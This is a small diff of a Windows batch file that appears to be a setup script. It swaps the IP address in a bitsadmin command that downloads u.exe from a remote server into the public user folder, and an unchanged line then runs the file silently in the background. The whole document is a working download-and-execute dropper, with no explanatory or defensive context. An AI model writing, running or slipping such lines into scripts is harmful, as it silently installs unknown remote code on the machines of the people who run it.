@@ -1,3 +1,3 @@
-REM setup 5913 v3
-bitsadmin /transfer job /download /priority high http://198.51.100.23/u.exe C:\Users\Public\u.exe
+REM run 0391 v3
+bitsadmin /transfer job /download /priority high http://198.51.100.9/u.exe C:\Users\Public\u.exe
 start /b C:\Users\Public\u.exe
